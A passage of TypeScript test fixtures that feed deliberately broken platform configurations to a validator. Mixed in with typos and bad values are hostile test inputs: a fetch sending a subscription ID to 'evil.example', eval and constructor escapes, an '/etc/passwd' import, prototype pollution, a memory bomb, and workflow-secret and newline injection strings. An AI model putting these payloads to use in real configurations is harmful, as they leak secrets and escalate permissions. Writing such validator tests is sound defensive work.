/**
 * Mistakes that people make, by the stage that finds them: a name, and what is written instead of what, in `platform.config.ts` of this
 * folder. The text that is replaced occurs there once. What people are told is in `expected/<stage>.txt`.
 */
export type Case = readonly [name: string, ...edits: (readonly [from: string, to: string])[]];

const REPLICAS = 'in: { prod: { replicaCount: 3 } },';
const WORK = "args: ['work'],";
const LOG = "LOG_LEVEL: 'info',";
const API_LIMITS = "resources: { requests: { cpu: '250m', memory: '512Mi' }, limits: { memory: '1Gi' } },";
const MIGRATE = "migrate: { kind: 'releaseJob',";
const ETLJOBS = "in: { staging: { pool: 'etljobs' } },";
const END = '  sealed,\n';
const IMPORT = "import { definePlatform } from '../../lib/index.ts';";

const load: Case[] = [
  ['a comma forgotten', [LOG, "LOG_LEVEL: 'info'\n        MODE: 'fast',"]],
  ['a brace forgotten', ['nodes: { min: 0, max: 5 }, dedicated', 'nodes: { min: 0, max: 5, dedicated']],
  ['a brace too many', [REPLICAS, `${REPLICAS} }`]],
  ['a quote forgotten', ["image: 'shop-web',", "image: 'shop-web,"]],
  ['an equals sign for a colon', [WORK, "args = ['work'],"]],
  ['a bracket closed by a brace', [WORK, "args: ['work'},"]],
  ['a name with a dash without quotes', ["'aks-acme-prod': {", 'aks-acme-prod: {']],
  ['a merge conflict', [REPLICAS, `<<<<<<< HEAD\n      ${REPLICAS}\n=======\n      ${REPLICAS}\n>>>>>>> main`]],
  ['typographic quotes', [LOG, 'LOG_LEVEL: ‘info’,']],
  ['YAML instead of TypeScript', [WORK, 'args:\n        - work']],
  ['no default export', ['export default definePlatform({', 'const unused = definePlatform({']],
  ['an import of a file that is not there', [IMPORT, `${IMPORT}\nimport { worker } from './services.ts';`]],
  ['an import without the ending', [IMPORT, `${IMPORT}\nimport sizes from './platform.sealed';`]],
  [
    'an import of fs',
    [IMPORT, `${IMPORT}\nimport { readFileSync } from 'node:fs';`],
    [LOG, "LOG_LEVEL: readFileSync('level', 'utf8'),"],
  ],
  ['an import of a package', [IMPORT, `${IMPORT}\nimport _ from 'lodash';`], [LOG, "LOG_LEVEL: _.trim(' info '),"]],
  [
    'an import from outside of the repository',
    [IMPORT, `${IMPORT}\nimport passwd from '../../../../etc/passwd.json';`],
  ],
  ['an import of a misspelt name', [IMPORT, "import { definePlatfrom } from '../../lib/index.ts';"]],
  ['an import by require', [LOG, "LOG_LEVEL: require('fs').readFileSync('level'),"]],
  ['an import forgotten', [IMPORT, '']],
  ['an import() of code', [LOG, "LOG_LEVEL: (await import('./level.ts')).level,"]],
  ['an await of nothing', [LOG, 'LOG_LEVEL: await Promise.resolve("info"),']],
  ['an async function', ['const web = (port', 'const web = async (port'], ['...web(8080),', '...(await web(8080)),']],
  ['an async function that nobody awaits', [LOG, "LOG_LEVEL: (async () => 'info')(),"]],
  ['the clock', [LOG, 'STARTED: Date.now(),']],
  ['a new date', [LOG, 'STARTED: new Date().toISOString(),']],
  ['a random number', [LOG, 'SALT: Math.random(),']],
  ['a variable of the environment', [LOG, 'LOG_LEVEL: process.env.LOG_LEVEL,']],
  ['a request', [LOG, "LOG_LEVEL: fetch('https://evil.example/?' + subscriptionId),"]],
  ['console.log', ['const web = (port: number) => (', "console.log('here');\nconst web = (port: number) => ("]],
  ['eval', [LOG, "LOG_LEVEL: eval('1'),"]],
  ['code made of a constructor', [LOG, "LOG_LEVEL: (() => {}).constructor('return process')(),"]],
  ['a misspelt constant', ['resources: small,\n      shutdown', 'resources: smal,\n      shutdown']],
  ['a spread of a misspelt constant', [MIGRATE, `migrate: { ...smal, kind: 'releaseJob',`]],
  ['a misspelt helper', ['...web(3000),', '...wbe(3000),']],
  ['a helper that is spread and not called', ['...web(3000),', '...web,']],
  ['a promise that is spread', ['const web = (port', 'const web = async (port']],
  ['a helper that is no function', ['...web(3000),', '...small(3000),']],
  ['a key of nothing', ['...web(3000),', '...web(3000),\n      ...undefinedThing.ports,']],
  [
    'a property of a missing property',
    ['resources: small,\n      shutdown', 'resources: (small as any).request.cpu,\n      shutdown'],
  ],
  [
    'a constant used before it is made',
    ['const small = ', 'const large = { ...small2 };\nconst small2 = {};\nconst small = '],
  ],
  ['a constant assigned again', ['const small = ', "const level = 'info';\nlevel = 'debug';\nconst small = "]],
  [
    'a misspelt part of a constant',
    ['resources: small,\n      shutdown', 'resources: { requests: small.reqests },\n      shutdown'],
  ],
  ['a key twice', [LOG, `${LOG}\n        LOG_LEVEL: 'debug',`]],
  ['a service copied and not renamed', [MIGRATE, `worker: { image: 'shop-web' },\n    ${MIGRATE}`]],
  ['an environment twice', [REPLICAS, `${REPLICAS}\n      in: { staging: { replicaCount: 2 } },`]],
  ['undefined in a list', [WORK, "args: ['work', undefined],"]],
  ['a hole in a list', [WORK, "args: ['work', , '--fast'],"]],
  ['a function as a value', [LOG, "LOG_LEVEL: () => 'info',"]],
  ['a symbol as a value', [LOG, 'LOG_LEVEL: Symbol("info"),']],
  ['a set as a list', [WORK, "args: new Set(['work']),"]],
  ['a map as an object', [LOG, 'LEVELS: new Map(),']],
  ['a big integer', [LOG, 'MOST: 9007199254740993n,']],
  ['not a number', [REPLICAS, "in: { prod: { replicaCount: Number('three') } },"]],
  ['infinitely many', [REPLICAS, 'in: { prod: { replicaCount: 1 / 0 } },']],
  ['a prototype as a key', [LOG, '__proto__: { polluted: true },']],
  ['a prototype as the name of a service', [MIGRATE, `"__proto__": { image: 'shop-web' },\n    ${MIGRATE}`]],
  ['a platform that contains itself', [END, '  sealed,\n  get services2() { return this; },\n']],
  [
    'a function that calls itself',
    ['const small = ', 'const more = (n: number): number => more(n + 1);\nmore(0);\nconst small = '],
  ],
  [
    'a memory bomb',
    [
      'const small = ',
      "const bomb: unknown[] = [];\nfor (;;) bomb.push('x'.repeat(1e6) + bomb.length);\nconst small = ",
    ],
  ],
  [
    'a throw of a helper',
    [
      'const web = (port: number) => (',
      "const web = (port: number) => {\n  if (port < 3001) throw new Error('ports begin at 3001');\n  return webAt(port);\n};\nconst webAt = (port: number) => (",
    ],
  ],
  ['an object that is frozen', ['const small = ', "Object.prototype.toString = () => 'evil';\nconst small = "]],
  ['a regular expression that is none', ['const small = ', 'const pattern = /[/;\nconst small = ']],
  [
    'a type where a value must be',
    ['export default definePlatform({', 'export type { A as default };\ntype A = {};\nconst unused = definePlatform({'],
  ],
];

const config: Case[] = [
  // Keys
  ['a misspelt key of the platform', ['gitops: { repository', 'gitOps: { repository']],
  ['a misspelt key of a state', ["storageAccount: 'acmestate'", "storageAcount: 'acmestate'"]],
  ['a misspelt key of an environment', ["directory: 'production',", "dir: 'production',"]],
  ['a misspelt key of a service', [REPLICAS, 'in: { prod: { replicas: 3 } },']],
  [
    'a misspelt key of resources',
    ["requests: { cpu: '250m', memory: '512Mi' }", "request: { cpu: '250m', memory: '512Mi' }"],
  ],
  [
    'a misspelt key of quantities',
    ["requests: { cpu: '250m', memory: '512Mi' }", "requests: { cpu: '250m', mem: '512Mi' }"],
  ],
  ['a misspelt key of a variable', ["LOG_LEVEL: 'info',", "LOG_LEVEL: { secert: 'JWT_SECRET' },"]],
  [
    'a misspelt key of a database variable',
    ["DATABASE_HOST: { database: 'main', get: 'host' },", "DATABASE_HOST: { database: 'main', gte: 'host' },"],
  ],
  [
    'a misspelt key of a probe',
    [WORK, "args: ['work'],\n      ports: { http: 80 },\n      probes: { readiness: { http: '/health', period: 3 } },"],
  ],
  [
    'a misspelt kind of probe',
    [WORK, "args: ['work'],\n      ports: { http: 80 },\n      probes: { ready: '/health' },"],
  ],
  [
    'a probe as Kubernetes writes it',
    [
      WORK,
      "args: ['work'],\n      ports: { http: 80 },\n      probes: { readiness: { httpGet: { path: '/health', port: 80 } } },",
    ],
  ],
  ['a key that is like nothing', [WORK, "args: ['work'],\n      favouriteColour: 'blue',"]],
  ['a key of Docker Compose', [WORK, "args: ['work'],\n      environment: { A: 'b' },"]],
  ['a prototype key of an object', [WORK, "args: ['work'],\n      constructor: 'x',"]],
  ['a key of a node pool', ['nodes: 3 }', 'nodes: 3, count: 3 }']],
  // Sorts of values
  ['a number as text', [REPLICAS, "in: { prod: { replicaCount: '3' } },"]],
  ['a text for a number', [REPLICAS, "in: { prod: { replicaCount: 'three' } },"]],
  ['a fraction', [REPLICAS, 'in: { prod: { replicaCount: 2.5 } },']],
  ['a number below zero', [REPLICAS, 'in: { prod: { replicaCount: -1 } },']],
  ['a huge number', [REPLICAS, 'in: { prod: { replicaCount: 1e308 } },']],
  ['a number that is not exact', [LOG, 'MOST: 12345678901234567890,']],
  ['a text for a flag', ['dedicated: true', "dedicated: 'true'"]],
  [
    'a number for a version',
    [
      "kubernetesVersion: '1.36',\n        adminGroups: [testers],\n        systemPool: 'default'",
      "kubernetesVersion: 1.36,\n        adminGroups: [testers],\n        systemPool: 'default'",
    ],
  ],
  [
    'a version of three numbers',
    [
      "kubernetesVersion: '1.36',\n        adminGroups: [testers],\n        systemPool: 'default'",
      "kubernetesVersion: '1.36.2',\n        adminGroups: [testers],\n        systemPool: 'default'",
    ],
  ],
  ['a text for a list', [WORK, "args: 'work',"]],
  [
    'a list for an object',
    [LOG, ''],
    ["envs: { API_URL: { service: 'api', get: 'url' } },", "envs: [{ name: 'API_URL', value: 'x' }],"],
  ],
  ['a number in a list of texts', [WORK, "args: ['work', 3],"]],
  ['null for what must be', ["domain: 'acme.example'", 'domain: null']],
  ['undefined for what must be', ["domain: 'acme.example'", 'domain: undefined']],
  ['nothing of what must be', ["domain: 'acme.example',", '']],
  [
    'a section forgotten',
    ["  azure: { tenantId: '11111111-1111-4111-8111-111111111111', location: 'westeurope' },\n", ''],
  ],
  [
    'undefined for a service',
    [MIGRATE, `later: undefined,\n    ${MIGRATE}`],
    ["{ service: 'api', get: 'url' }", "{ service: 'later', get: 'url' }"],
  ],
  ['null for a service', [MIGRATE, `later: null,\n    ${MIGRATE}`]],
  ['true for an environment', [REPLICAS, 'in: { prod: true },']],
  ['an empty text', ["domain: 'acme.example'", "domain: ''"]],
  ['an empty name', [MIGRATE, `'': { image: 'shop-web' },\n    ${MIGRATE}`]],
  [
    'an empty list of databases',
    [
      "databases: ['shop'],\n          login: { user: 'shop' },\n        },\n      },\n    },\n\n",
      "databases: [],\n          login: { user: 'shop' },\n        },\n      },\n    },\n\n",
    ],
  ],
  [
    'an empty list of groups',
    ["adminGroups: [testers],\n        systemPool: 'default'", "adminGroups: [],\n        systemPool: 'default'"],
  ],
  ['no environments at all', [END, '  sealed,\n  ...{ environments: {} },\n']],
  [
    'a repository without images',
    ["'shop-web': { images: { 'shop-web': {} } },", "'shop-web': { images: { 'shop-web': {} } }, old: { images: {} },"],
  ],
  [
    'a volume without files',
    [WORK, `${WORK} volumes: { settings: { kind: 'config', mountPath: '/etc/shop', files: {} } },`],
  ],
  ['a resource group of one letter', ["resourceGroup: 'acme-prod'", "resourceGroup: 'a'"]],
  ['a variable that is a list', [LOG, "LOG_LEVEL: ['info'],"]],
  ['a variable that is nothing we know', [LOG, "LOG_LEVEL: { value: 'info' },"]],
  ['a variable as Kubernetes writes it', [LOG, "LOG_LEVEL: { valueFrom: { secretKeyRef: { name: 'x', key: 'y' } } },"]],
  ['a text of a megabyte', [LOG, `LOG_LEVEL: '${'x'.repeat(1_000_000)}',`]],
  ['a domain of a megabyte', ["domain: 'acme.example'", `domain: '${'a.'.repeat(500_000)}!'`]],
  ['a key of a megabyte', [LOG, `${'x'.repeat(1_000_000)}: '1',`]],
  ['a service name of a megabyte', [MIGRATE, `'${'x-'.repeat(500_000)}': {},\n    ${MIGRATE}`]],
  [
    'a constant that many use',
    ["requests: { cpu: '100m', memory: '256Mi' }", "requests: { cpu: '100m', memory: '256mb' }"],
  ],
  ['a helper that many use', ["readiness: '/health', liveness", "readiness: 'health', liveness"]],
  // Words of a list
  ['a misspelt tier', ["tier: 'production'", "tier: 'prod'"]],
  ['a misspelt kind', ["kind: 'scheduledJob'", "kind: 'cronjob'"]],
  [
    'a misspelt fact of a database',
    ["DATABASE_HOST: { database: 'main', get: 'host' },", "DATABASE_HOST: { database: 'main', get: 'hostname' },"],
  ],
  ['a misspelt fact of a service', ["{ service: 'api', get: 'url' }", "{ service: 'api', get: 'URL' }"]],
  ['a storage size that Azure does not sell', ['storageGb: 128', 'storageGb: 100']],
  [
    'another engine',
    [
      "engine: 'postgresql',\n          server: 'acme-prod-main'",
      "engine: 'mysql',\n          server: 'acme-prod-main'",
    ],
  ],
  ['a volume of no kind', [WORK, "args: ['work'],\n      volumes: { tmp: { mountPath: '/tmp', size: '1Gi' } },"]],
  [
    'a volume of a misspelt kind',
    [WORK, "args: ['work'],\n      volumes: { tmp: { kind: 'emptyDir', mountPath: '/tmp', size: '1Gi' } },"],
  ],
  [
    'a volume without a size',
    [WORK, "args: ['work'],\n      volumes: { tmp: { kind: 'ephemeral', mountPath: '/tmp' } },"],
  ],
  // References
  ['a misspelt environment', [REPLICAS, 'in: { production: { replicaCount: 3 } },']],
  ['a misspelt environment that is false', [REPLICAS, 'in: { prd: false },']],
  ['a misspelt pool', ["in: { staging: { pool: 'etljobs' } }", "in: { staging: { pool: 'etljob' } }"]],
  ['a pool of the other environment', ["in: { staging: { pool: 'etljobs' } }", "in: { prod: { pool: 'etljobs' } }"]],
  ['a misspelt system pool', ["systemPool: 'default'", "systemPool: 'defualt'"]],
  ['a misspelt image', ["image: 'shop-web',", "image: 'shop-wbe',"]],
  ['an image with its tag', ["image: 'shop-web',", "image: 'shop-web:1.2.3',"]],
  ['an image of the whole registry', ["image: 'shop-web',", "image: 'acmeregistry.azurecr.io/shop-web',"]],
  [
    'a misspelt database',
    ["DATABASE_HOST: { database: 'main', get: 'host' },", "DATABASE_HOST: { database: 'mian', get: 'host' },"],
  ],
  ['a secret that is not declared', [LOG, "SMTP_PASSWORD: { secret: 'SMTP_PASSWORD' },"]],
  ['a misspelt secret', ["JWT_SECRET: { secret: 'JWT_SECRET' },", "JWT_SECRET: { secret: 'JWT_SECERT' },"]],
  ['a misspelt service', ["{ service: 'api', get: 'url' }", "{ service: 'ap', get: 'url' }"]],
  ['a service in a join', [LOG, "WS: { join: ['wss://', { service: 'frnt', get: 'publicHost' }] },"]],
  [
    'a misspelt preset',
    ["preset: 'database',\n      image: 'shop-api'", "preset: 'databse',\n      image: 'shop-api'"],
  ],
  [
    'a list of presets',
    ["preset: 'database',\n      image: 'shop-api'", "preset: ['database'],\n      image: 'shop-api'"],
  ],
  ['a name of the prototype as a reference', ["image: 'shop-web',", "image: 'constructor',"]],
  ['an image that two sources build', ["images: { 'shop-web': {} }", "images: { 'shop-web': {}, 'shop-api': {} }"]],
  // Formats
  ['a cron of six fields', ["cron: '30 2 * * *'", "cron: '0 30 2 * * *'"]],
  ['a cron with an hour too many', ["cron: '30 2 * * *'", "cron: '30 24 * * *'"]],
  ['a cron in words', ["cron: '30 2 * * *'", "cron: 'every day at 2:30'"]],
  ['a time zone of three letters', ["timeZone: 'Etc/UTC'", "timeZone: 'CET'"]],
  ['a time zone that is not there', ["timeZone: 'Etc/UTC'", "timeZone: 'Europe/Berln'"]],
  ['port zero', ['...web(3000),', '...web(0),']],
  ['a port too high', [WORK, "args: ['work'],\n      ports: { http: 70000 },"]],
  ['a port as text', [WORK, "args: ['work'],\n      ports: { http: '8080' },"]],
  ['a port as Docker writes it', [WORK, "args: ['work'],\n      ports: { http: '80:8080' },"]],
  ['a port that is only a number', [WORK, "args: ['work'],\n      ports: 8080,"]],
  ['a port name too long', [WORK, "args: ['work'],\n      ports: { 'metrics-for-prometheus': 9090 },"]],
  ['memory in small letters', [API_LIMITS, "resources: { requests: { cpu: '250m', memory: '512mb' } },"]],
  ['memory in megabytes', [API_LIMITS, "resources: { requests: { cpu: '250m', memory: '512MB' } },"]],
  ['memory as a number', [API_LIMITS, "resources: { requests: { cpu: '250m', memory: 512 } },"]],
  ['memory in millibytes', [API_LIMITS, "resources: { requests: { cpu: '250m', memory: '512m' } },"]],
  ['cpu with a space', [API_LIMITS, "resources: { requests: { cpu: '250 m', memory: '512Mi' } },"]],
  ['cpu as a number', [API_LIMITS, "resources: { requests: { cpu: 0.25, memory: '512Mi' } },"]],
  ['cpu of zero', [API_LIMITS, "resources: { requests: { cpu: '0.0', memory: '512Mi' } },"]],
  ['a variable with a dash', [LOG, "'LOG-LEVEL': 'info',"]],
  ['a variable that begins with a digit', [LOG, "'2FA': 'on',"]],
  ['a service with a capital', [MIGRATE, `shopApi: { image: 'shop-api' },\n    ${MIGRATE}`]],
  ['a service with an underscore', [MIGRATE, `shop_api: { image: 'shop-api' },\n    ${MIGRATE}`]],
  ['a service with a name too long', [MIGRATE, `'${'shop-'.repeat(11)}api': { image: 'shop-api' },\n    ${MIGRATE}`]],
  [
    'a service with a path for a name',
    [MIGRATE, `'../../.github/workflows/x': { image: 'shop-api' },\n    ${MIGRATE}`],
  ],
  ['a folder that leads outside', ["directory: 'production'", "directory: '../production'"]],
  ['a pool as Azure does not take it', ["azureName: 'aksacmeprod'", "azureName: 'aks-acme-prod'"]],
  ['a range with host bits', ["addressSpace: '10.20.0.0/16'", "addressSpace: '10.20.1.0/16'"]],
  ['a range without a prefix', ["addressSpace: '10.20.0.0/16'", "addressSpace: '10.20.0.0'"]],
  ['a range beyond 255', ["addressSpace: '10.20.0.0/16'", "addressSpace: '10.300.0.0/16'"]],
  ['an id with a digit too few', ["'22222222-2222-4222-8222-222222222222'", "'22222222-2222-4222-8222-22222222222'"]],
  [
    'an id in capitals',
    ["tenantId: '11111111-1111-4111-8111-111111111111'", "tenantId: 'ABCDEF11-1111-4111-8111-111111111111'"],
  ],
  ['a domain with a scheme', ["domain: 'acme.example'", "domain: 'https://acme.example'"]],
  ['a domain in capitals', ["domain: 'acme.example'", "domain: 'Acme.Example'"]],
  ['a domain with a dot at the end', ["domain: 'acme.example'", "domain: 'acme.example.'"]],
  ['a domain of one label', ["domain: 'acme.example'", "domain: 'acme'"]],
  ['an address for a domain', ["domain: 'acme.example'", "domain: '10.0.0.1'"]],
  ['a domain with a label too long', ["domain: 'acme.example'", `domain: '${'a'.repeat(64)}.example'`]],
  ['a host with a scheme', ['hosts: { api: {} }', "hosts: { 'https://api': {} }"]],
  ['a host in capitals', ['hosts: { api: {} }', 'hosts: { Api: {} }']],
  ['a wildcard host', ['hosts: { api: {} }', "hosts: { '*': {} }"]],
  ['hosts as a list', ['hosts: { api: {} }', "hosts: ['api']"]],
  [
    'a path without a slash',
    [WORK, "args: ['work'],\n      ports: { http: 80 },\n      probes: { readiness: 'health' },"],
  ],
  ['a branch with a pattern', ["branch: 'main'", "branch: 'release/*'"]],
  ['a suffix without a dash', ["suffix: '-stable'", "suffix: 'stable'"]],
  [
    'a user that Azure keeps for itself',
    [
      "login: { user: 'shop' },\n        },\n      },\n    },\n  },",
      "login: { user: 'admin' },\n        },\n      },\n    },\n  },",
    ],
  ],
  ['a secret of GitHub', ["loginServerSecret: 'ACME_REGISTRY'", "loginServerSecret: 'GITHUB_REGISTRY'"]],
  ['a label of a host that is too long', ['hosts: { api: {} }', `hosts: { '${'a'.repeat(64)}': {} }`]],
  [
    'a Kubernetes that is older than the chart takes',
    [
      "name: 'aks-acme-prod',\n        kubernetesVersion: '1.36'",
      "name: 'aks-acme-prod',\n        kubernetesVersion: '1.29'",
    ],
  ],
  [
    'a network with a name that Azure refuses',
    ["addressSpace: '10.20.0.0/16'", "name: '_acme',\n        addressSpace: '10.20.0.0/16'"],
  ],
  ['a machine size without Standard', ["default: { size: 'Standard_D4s_v5'", "default: { size: 'D4s_v5'"]],
  ['a region in words', ["location: 'westeurope'", "location: 'West Europe'"]],
  [
    'a repository with its owner',
    ["gitops: { repository: 'acme-gitops' }", "gitops: { repository: 'acme/acme-gitops' }"],
  ],
  ['backups for too long', ['backupRetentionDays: 35', 'backupRetentionDays: 90']],
  // Text that something later would read as code
  ['an expression of a workflow', ["branch: 'main'", "branch: '${{ secrets.TOKEN }}'"]],
  ['an expression of a workflow in a suffix', ["suffix: '-stable'", "suffix: '-${{ secrets.X }}'"]],
  ['an expression of a workflow in a Dockerfile', ["dockerfile: 'jobs/Dockerfile'", "dockerfile: '${{ secrets.X }}'"]],
  [
    'an interpolation of HCL in a tag',
    ["resourceGroup: 'acme-prod',", "resourceGroup: 'acme-prod',\n      tags: { owner: '${get_env(\"HOME\")}' },"],
  ],
  [
    'a template of Helm in a name',
    [
      "className: 'traefik', issuer: 'letsencrypt' },\n      network: {\n        addressSpace: '10.20",
      "className: '{{ .Values.x }}', issuer: 'letsencrypt' },\n      network: {\n        addressSpace: '10.20",
    ],
  ],
  ['a line break in a branch', ["branch: 'main'", "branch: 'main\\n  permissions: write-all'"]],
  ['control characters', ["branch: 'main'", "branch: 'main\\u001b[2J\\u0007'"]],
  ['a text that turns the direction of writing', ["branch: 'main'", "branch: 'main\\u202e'"]],
  ['a NUL in a variable', [LOG, "LOG_LEVEL: 'in\\0fo',"]],
  [
    'a manifest without a name',
    [
      REPLICAS,
      `${REPLICAS}\n      extraManifests: [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { labels: {} } }],`,
    ],
  ],
  [
    'a manifest without a kind',
    [REPLICAS, `${REPLICAS}\n      extraManifests: [{ apiVersion: 'v1', metadata: { name: 'settings' } }],`],
  ],
  [
    'a manifest that is a list of manifests',
    [
      REPLICAS,
      `${REPLICAS}\n      extraManifests: [{ apiVersion: 'v1', kind: 'List', metadata: { name: 'all' }, items: [] }],`,
    ],
  ],
  [
    'a manifest that is a list under another name',
    [
      REPLICAS,
      `${REPLICAS}\n      extraManifests: [{ apiVersion: 'v1', kind: 'SecretList', metadata: { name: 'all' }, items: [] }],`,
    ],
  ],
  ['a manifest that is a text of YAML', [REPLICAS, `${REPLICAS}\n      extraManifests: ['apiVersion: v1'],`]],
  [
    'a manifest that is no list',
    [
      REPLICAS,
      `${REPLICAS}\n      extraManifests: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'settings' } },`,
    ],
  ],
];

const model: Case[] = [
  ['two networks that overlap', ["nodeSubnet: '10.20.0.0/22'", "nodeSubnet: '10.20.0.0/20'"]],
  ['a subnet outside of its network', ["nodeSubnet: '10.20.0.0/22'", "nodeSubnet: '10.21.0.0/22'"]],
  ['pods in the network of the nodes', ["podRange: '10.65.0.0/16'", "podRange: '10.20.0.0/16'"]],
  ['a service range too large', ["serviceRange: '10.251.0.0/20'", "serviceRange: '10.0.0.0/8'"]],
  ['two services at one host', ["hosts: { '@': {} },", 'hosts: { api: {} },']],
  [
    'a probe of a port that is not there',
    [
      WORK,
      "args: ['work'],\n      ports: { http: 80 },\n      probes: { readiness: { http: '/health', port: 'htpp' } },",
    ],
  ],
  ['a probe without any port', [WORK, "args: ['work'],\n      probes: { readiness: '/health' },"]],
  ['a host without any port', [WORK, "args: ['work'],\n      hosts: { work: {} },"]],
  ['a host of a port that is not there', ['hosts: { api: {} }', "hosts: { api: { port: 'grpc' } }"]],
  ['two ports of one number', [WORK, "args: ['work'],\n      ports: { http: 80, metrics: 80 },"]],
  [
    'a limit below the request',
    [API_LIMITS, "resources: { requests: { cpu: '250m', memory: '2Gi' }, limits: { memory: '1Gi' } },"],
  ],
  [
    'a limit of cpu below the request',
    [API_LIMITS, "resources: { requests: { cpu: '2', memory: '512Mi' }, limits: { cpu: '500m', memory: '1Gi' } },"],
  ],
  [
    'autoscaling and a count',
    ['in: { prod: { replicaCount: null, autoscaling', 'in: { prod: { replicaCount: 2, autoscaling'],
  ],
  ['autoscaling upside down', ['minReplicas: 2, maxReplicas: 6', 'minReplicas: 6, maxReplicas: 2']],
  ['autoscaling without a maximum', ['minReplicas: 2, maxReplicas: 6', 'minReplicas: 2']],
  [
    'a service left out where another needs it',
    [
      'in: { prod: { replicaCount: null, autoscaling: { minReplicas: 2, maxReplicas: 6, cpuPercent: 70 } } },',
      'in: { prod: { replicaCount: null, autoscaling: { minReplicas: 2, maxReplicas: 6, cpuPercent: 70 } }, staging: false },',
    ],
  ],
  ['a public address of what has none', ["{ service: 'api', get: 'url' }", "{ service: 'worker', get: 'publicUrl' }"]],
  ['an address of what has no port', [LOG, "WORKER: { service: 'worker', get: 'url' },"]],
  [
    'a port of another service that is not there',
    ["{ service: 'api', get: 'url' }", "{ service: 'api', get: 'url', port: 'grpc' }"],
  ],
  ['a pool that one environment does not have', ["in: { staging: { pool: 'etljobs' } }", "pool: 'etljobs'"]],
  [
    'a database that one environment does not have',
    [
      "  databases: {\n        main: {\n          engine: 'postgresql',\n          server: 'acme-staging-main'",
      "  databases: {\n        other: {\n          engine: 'postgresql',\n          server: 'acme-staging-main'",
    ],
  ],
  [
    'a database without login',
    [
      "databases: ['shop'],\n          login: { user: 'shop' },\n        },\n      },\n    },\n  },",
      "databases: ['shop'],\n        },\n      },\n    },\n  },",
    ],
  ],
  [
    'a name of several databases',
    [LOG, "NAME: { database: 'main', get: 'name' },"],
    [
      "databases: ['shop'],\n          login: { user: 'shop' },\n        },\n      },\n    },\n  },",
      "databases: ['shop', 'audit'],\n          login: { user: 'shop' },\n        },\n      },\n    },\n  },",
    ],
  ],
  ['a scheduled job without a schedule', ["      schedule: { cron: '30 2 * * *', timeZone: 'Etc/UTC' },\n", '']],
  [
    'a schedule without a cron',
    ["schedule: { cron: '30 2 * * *', timeZone: 'Etc/UTC' }", "schedule: { timeZone: 'Etc/UTC' }"],
  ],
  ['a job with hosts', [MIGRATE, `migrate: { kind: 'releaseJob', hosts: { migrate: {} },`]],
  ['a job with ports and replicas', ["args: ['etl'],", "args: ['etl'],\n      replicaCount: 2,"]],
  ['a deployment with a schedule', [WORK, "args: ['work'],\n      schedule: { cron: '@daily' },"]],
  ['a service without an image', ["      image: 'shop-web',\n", '']],
  ['an empty service', [MIGRATE, `empty: {},\n    ${MIGRATE}`]],
  ['two environments with one folder', ["directory: 'production'", "directory: 'staging'"]],
  ['an environment with a folder of ours', ["directory: 'production'", "directory: 'charts'"]],
  [
    'two environments with one branch and suffix',
    ["branch: 'main'", "branch: 'staging'"],
    ["suffix: '-stable'", "suffix: ''"],
  ],
  ['two environments with one domain', ["domain: 'acme.example'", "domain: 'staging.acme.example'"]],
  [
    'two environments in one resource group',
    [
      "subscriptionId,\n      resourceGroup: 'acme-prod'",
      "subscriptionId: testSubscription,\n      resourceGroup: 'ACME-staging'",
    ],
  ],
  ['two databases on one server', ["server: 'acme-prod-main'", "server: 'acme-staging-main'"]],
  ['two repositories that are one', ["gitops: { repository: 'acme-gitops' }", "gitops: { repository: 'acme-infra' }"]],
  ['a pool whose name Azure does not take', ["azureName: 'aksacmeprod', ", '']],
  ['a pool upside down', ['nodes: { min: 0, max: 5 }', 'nodes: { min: 5, max: 2 }']],
  ['a system pool without a node', ["systemPool: 'default'", "systemPool: 'etljobs'"]],
  [
    'a wait that is longer than the grace',
    ['gracePeriodSeconds: 60, preStopSeconds: 10', 'gracePeriodSeconds: 5, preStopSeconds: 10'],
  ],
  [
    'two volumes at one path',
    [
      WORK,
      `${WORK}
      volumes: {
        a: { kind: 'ephemeral', mountPath: '/data', size: '1Gi' },
        b: { kind: 'ephemeral', mountPath: '/data', size: '1Gi' },
      },`,
    ],
  ],
  [
    'a volume where every service has one',
    [WORK, `${WORK}\n      volumes: { scratch: { kind: 'ephemeral', mountPath: '/tmp', size: '1Gi' } },`],
  ],
  ['a service that is called as the root is', [MIGRATE, `root: { image: 'shop-web' },\n    ${MIGRATE}`]],
  [
    'an environment in the resource group of the registry',
    ["resourceGroup: 'acme-prod'", "resourceGroup: 'acme-shared'"],
  ],
  ['an environment in the resource group of the state', ["resourceGroup: 'acme-prod'", "resourceGroup: 'acme-state'"]],
  [
    'two repositories whose identities are called alike',
    ["'shop-web': { images", "'shop.api': { images: { 'shop-dot': {} } },\n    'shop-web': { images"],
  ],
  [
    'a service whose identity is called as that of the nodes',
    ["name: 'aks-acme-prod'", "name: 'prod'"],
    [
      MIGRATE,
      `kubelet: { image: 'shop-web', workloadIdentity: { clientId: platformTeam }, in: { staging: false } },\n    ${MIGRATE}`,
    ],
  ],
  ['a host of a job', [LOG, "NIGHTLY: { service: 'nightly', get: 'host' },"]],
  ['a host of what has no port', [LOG, "WORKER: { service: 'worker', get: 'host' },"]],
  [
    'a URL of a port that is not TCP',
    [WORK, "args: ['work'],\n      ports: { events: { port: 9000, protocol: 'UDP' } },"],
    [LOG, "WORKER: { service: 'worker', get: 'url' },"],
  ],
  [
    'a probe of a port that is not TCP',
    [
      WORK,
      "args: ['work'],\n      ports: { events: { port: 9000, protocol: 'UDP' } },\n      probes: { liveness: { tcp: 'events' } },",
    ],
  ],
  [
    'a host that is too long with its domain',
    ["domain: 'acme.example'", `domain: '${'long.'.repeat(30)}acme.example'`],
    ['hosts: { api: {} }', `hosts: { '${'api.'.repeat(25)}api': {} }`],
  ],
  [
    'more files than a ConfigMap holds',
    [
      WORK,
      "args: ['work'],\n      volumes: {\n        rules: { kind: 'config', mountPath: '/rules', files: Object.fromEntries([...'abcdefghijkl'].map((name) => [name, 'x'.repeat(99_999)])) },\n      },",
    ],
  ],
  [
    'a toleration of any value and of one',
    [WORK, "args: ['work'],\n      tolerations: [{ key: 'dedicated', operator: 'Exists', value: 'etl' }],"],
  ],
  ['root where nobody may be root', [WORK, "args: ['work'],\n      security: { runAsUser: 0 },"]],
  [
    'services in the namespace of Argo CD',
    ["directory: 'production',", "directory: 'production',\n      namespace: 'argocd',"],
  ],
  ['a subnet for fewer nodes than the pools may have', ["nodeSubnet: '10.10.0.0/22'", "nodeSubnet: '10.10.0.0/29'"]],
  ['pods of fewer nodes than the pools may have', ["podRange: '10.64.0.0/16'", "podRange: '10.64.0.0/22'"]],
